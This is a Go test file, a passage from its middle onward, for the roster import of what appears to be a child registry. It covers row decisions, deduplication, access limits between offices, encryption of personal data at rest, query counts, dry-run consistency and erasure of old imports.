		if got := f.stands(t, i.ID); got.Accepted != 4 || got.Held != 0 || got.Rejected != 0 {
			t.Fatalf("the rows that went out are not settled: %v", counts(got))
		}
		if diff := cmp.Diff(map[string]string{registrytest.Town: "discharged"}, f.duties(t, i.ID)); diff != "" {
			t.Error(diff)
		}
		if n := f.children(t); n != 4 {
			t.Errorf("%d children", n)
		}
	})
}

func TestImport_ADoubtfulNumberMayBeLetInWithoutIt(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		row := many(1)[0]
		row[2] = "2011-12-31" // the number says the day after
		i := f.enter(t, f.county, roster(t, row))
		held := f.rows(t, f.town, i.ID, "held")
		if diff := cmp.Diff(map[int][]string{2: {"identity.number_birth_disagrees"}}, codes(held)); diff != "" {
			t.Fatal(diff)
		}
		d, err := f.imports.Decide(f.town, i.ID, held[0].Seq, registry.RowDecision{Version: 1, Action: "accept"})
		must(t, err)
		file, err := f.Registry.Find(f.town, d.ChildID)
		must(t, err)
		if file.IdentityState != registry.IdentityDamaged || file.Child.Identity != "" {
			t.Fatalf("%+v", file)
		}
		if n := f.count(t, `select count(*) from duty_duty where rule = 'file.identity' and child_id = ? and state = 'open'`, d.ChildID); n != 1 {
			t.Error("nobody owes the right number")
		}
		// Entered by a decision, it is still the import's own: an undo takes it.
		_, err = f.imports.Undo(f.county, i.ID)
		must(t, err)
		must(t, f.Jobs.Drain(context.Background()))
		if f.children(t) != 0 {
			t.Error("left behind")
		}
	})
}

func TestImport_ARowTurnedDownNeedsAReasonAndReleasesThoseThatJoinedIt(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		row := many(1)[0]
		i := f.bring(t, f.county, roster(t, row, row))
		if diff := cmp.Diff([5]int{2, 0, 0, 1, 0}, counts(i)); diff != "" {
			t.Fatal(diff)
		}
		rows := f.rows(t, f.county, i.ID, "")
		if _, err := f.imports.Decide(f.county, i.ID, 1, registry.RowDecision{Version: 1, Action: "reject"}); !fault.Is(err, fault.Invalid) {
			t.Fatalf("without a reason: %v", err)
		}
		_, err := f.imports.Decide(f.county, i.ID, 1, registry.RowDecision{Version: rows[0].Version, Action: "reject", Reason: "已迁出"})
		must(t, err)
		if diff := cmp.Diff([5]int{0, 1, 1, 1, 0}, counts(f.stands(t, i.ID))); diff != "" {
			t.Fatal(diff)
		}
	})
}

func TestImport_OneChildAThousandTimesIsOneFile(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		var rows [][]any
		for range 1200 {
			rows = append(rows, many(1)[0])
		}
		i := f.enter(t, f.county, roster(t, rows...))
		if diff := cmp.Diff([5]int{1200, 0, 0, 1199, 1200}, counts(i)); diff != "" || f.children(t) != 1 {
			t.Fatal(diff)
		}
	})
}

func TestImport_OnlyOfficesOfThePlaceSeeIt(t *testing.T) {
	f := fixed(t, storetest.SQLite(t))
	i := f.enter(t, f.town, roster(t, many(2)...))
	for _, ctx := range []context.Context{registrytest.As(authz.TownshipSupervisor, registrytest.OtherTown)} {
		if _, err := f.imports.Find(ctx, i.ID); !fault.Is(err, fault.NotFound) {
			t.Errorf("a neighbour sees it: %v", err)
		}
		if _, err := f.imports.Rows(ctx, i.ID, registry.RowFilter{Limit: 9}); !fault.Is(err, fault.NotFound) {
			t.Errorf("a neighbour sees its rows: %v", err)
		}
		if _, err := f.imports.Post(ctx, i.ID); !fault.Is(err, fault.NotFound) {
			t.Errorf("a neighbour posts it: %v", err)
		}
		if _, err := f.imports.Undo(ctx, i.ID); !fault.Is(err, fault.NotFound) {
			t.Errorf("a neighbour undoes it: %v", err)
		}
	}
	village := registrytest.As(authz.VillageDirector, registrytest.Village)
	if _, err := f.imports.Receive(village, "x", bytes.NewReader(roster(t, many(1)...))); !fault.Is(err, fault.Denied) {
		t.Errorf("a village director imports: %v", err)
	}
	if list, err := f.imports.List(f.county, "", 10); err != nil || len(list) != 1 {
		t.Errorf("the county sees %d: %v", len(list), err)
	}
}

func TestImport_NothingReadableLiesInTheStoreOrTheFolder(t *testing.T) {
	f := fixed(t, storetest.SQLite(t))
	row := many(1)[0]
	row[0], row[4] = "冉禾苗", "外郎乡龙河村3组17号"
	i := f.enter(t, f.county, roster(t, row))
	if i.Held != 1 {
		t.Fatalf("%v", counts(i))
	}
	_, err := f.imports.Receive(f.county, "y", strings.NewReader("姓名,身份证号,现居住地\n冉禾苗,"+row[3].(string)+",龙河村17号\n"))
	must(t, err)
	must(t, f.DB.Close())
	var all []byte
	must(t, filepath.Walk(filepath.Dir(f.DB.Path()), func(path string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			var b []byte
			b, err = os.ReadFile(path)
			all = append(all, b...)
		}
		return err
	}))
	must(t, filepath.Walk(f.folder, func(path string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			var b []byte
			b, err = os.ReadFile(path)
			all = append(all, b...)
		}
		return err
	}))
	for _, secret := range []string{"冉禾苗", row[3].(string), "龙河村", "3组17号"} {
		if bytes.Contains(all, []byte(secret)) {
			t.Errorf("%s lies readable", secret)
		}
	}
}

func TestImport_ABatchCostsAsManyStatementsHoweverManyChildrenAreOnFile(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		path := func(rows [][]any) string {
			p := filepath.Join(t.TempDir(), "x.xlsx")
			must(t, os.WriteFile(p, roster(t, rows...), 0o600))
			return p
		}
		all := many(1400)
		dry := func(rows [][]any) int64 {
			ctx, n := store.WithCount(f.county)
			_, err := f.imports.DryRun(ctx, path(rows))
			must(t, err)
			return n.Load()
		}
		post := func(rows [][]any) int64 {
			i := f.bring(t, f.county, roster(t, rows...))
			_, err := f.imports.Post(f.county, i.ID)
			must(t, err)
			ctx, n := store.WithCount(context.Background())
			must(t, f.Jobs.Drain(ctx))
			return n.Load()
		}
		one, five := dry(all[:200]), dry(all[:1000])
		if perBatch := (five - one) / 4; perBatch > 4 {
			t.Errorf("deciding a batch takes %d statements", perBatch)
		}
		first := post(all[:200])
		t.Logf("deciding a batch: %d statements; entering one: %d", (five-one)/4, first)
		post(all[200:1000])
		last := post(all[1000:1200])
		if last > first+first/20 {
			t.Errorf("a batch took %d statements on an empty register, %d on one of a thousand", first, last)
		}
		// Bounded by the batch, with what differs of its content in it.
		if first > 150 {
			t.Errorf("a batch of two hundred took %d statements", first)
		}
	})
}

func TestImport_EveryRowIsCountedOnce(t *testing.T) {
	f := fixed(t, storetest.SQLite(t))
	pool := many(40)
	places := []string{"外郎乡大花村", "三湾村", "龙河村2组", "外郎乡", "", "重庆市万州区"}
	brought := 0
	rapid.Check(t, func(t *rapid.T) {
		n := rapid.IntRange(1, 30).Draw(t, "rows")
		brought++ // in the title: the very same file twice would rightly be told as it was the first time
		var rows [][]any
		for range n {
			row := append([]any{}, pool[rapid.IntRange(0, 39).Draw(t, "who")]...)
			row[4] = rapid.SampledFrom(places).Draw(t, "place")
			switch rapid.IntRange(0, 5).Draw(t, "trouble") {
			case 0:
				row[3] = ""
			case 1:
				row[3] = "500235"
			case 2:
				row[2] = "1999-01-01"
			case 3:
				row[0] = rapid.SampledFrom([]string{"邓秋", "??", "无"}).Draw(t, "name")
			}
			rows = append(rows, row)
		}
		dir, err := os.MkdirTemp("", "roster")
		if err != nil {
			t.Fatal(err)
		}
		defer os.RemoveAll(dir)
		p := filepath.Join(dir, "x.csv")
		var text strings.Builder
		fmt.Fprintf(&text, "第%d次摸底名册\n", brought)
		for _, row := range append([][]any{plainHeader}, rows...) {
			for k, v := range row {
				if k > 0 {
					text.WriteByte(',')
				}
				fmt.Fprint(&text, v)
			}
			text.WriteByte('\n')
		}
		if err := os.WriteFile(p, []byte(text.String()), 0o600); err != nil {
			t.Fatal(err)
		}
		dry, err := f.imports.DryRun(f.county, p)
		if err != nil {
			t.Fatal(err)
		}
		if dry.Rows != dry.Accepted+dry.Held+dry.Rejected || dry.Rows != n || dry.Duplicates > dry.Accepted+dry.Held {
			t.Fatalf("%d rows: %+v", n, dry)
		}
		before, err := store.One[int](context.Background(), f.DB, `select count(*) from registry_child`)
		if err != nil {
			t.Fatal(err)
		}
		done, err := f.imports.Run(f.county, p, nil)
		if err != nil {
			t.Fatal(err)
		}
		if dry.Accepted != done.Accepted || dry.Held != done.Held || dry.Rejected != done.Rejected || dry.Duplicates != done.Duplicates {
			t.Fatalf("a dry run said %+v, the import did %+v", dry, done)
		}
		after, err := store.One[int](context.Background(), f.DB, `select count(*) from registry_child`)
		if err != nil {
			t.Fatal(err)
		}
		if after-before > dry.Accepted {
			t.Fatalf("%d rows made %d files", dry.Accepted, after-before)
		}
	})
	twice, err := store.All[string](context.Background(), f.DB, `select name from registry_child where identity_index is not null group by name, identity_index having count(*) > 1`)
	if err != nil || len(twice) > 0 {
		t.Fatalf("doubled: %v %v", twice, err)
	}
}

func TestImport_WhatEndedLongAgoIsErased(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		done := f.enter(t, f.county, roster(t, many(2)...))
		row := many(3)[2]
		row[4] = "龙河村"
		waiting := f.enter(t, f.county, roster(t, row))
		f.Clock.Advance(32 * 24 * time.Hour)
		must(t, f.Jobs.Drain(context.Background()))
		if got := f.stands(t, done.ID); got.ErasedAt.IsZero() || got.Accepted != 2 {
			t.Errorf("not erased: %+v", got)
		}
		if _, err := f.imports.Rows(f.county, done.ID, registry.RowFilter{Limit: 9}); !fault.Is(err, fault.NotFound) {
			t.Errorf("its rows can still be read: %v", err)
		}
		if len(f.rows(t, f.county, waiting.ID, "held")) != 1 {
			t.Error("a row that waits for a person can no longer be read")
		}
		files, err := os.ReadDir(f.folder)
		must(t, err)
		if len(files) != 0 {
			t.Errorf("%d files are kept", len(files))
		}
	})
}
